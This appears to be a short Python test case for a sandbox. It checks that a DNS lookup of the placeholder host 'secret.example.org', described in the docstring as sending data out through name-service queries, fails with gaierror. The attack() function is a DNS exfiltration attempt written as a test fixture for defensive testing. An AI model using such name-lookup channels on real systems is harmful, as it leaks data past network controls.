"""Attacks: sends data out in the names that it asks the name service for.

Must: get no answer: there is no socket to ask with.
"""
# expect: fault=gaierror

import socket


def attack(x):
    return socket.getaddrinfo("secret.example.org", 80)
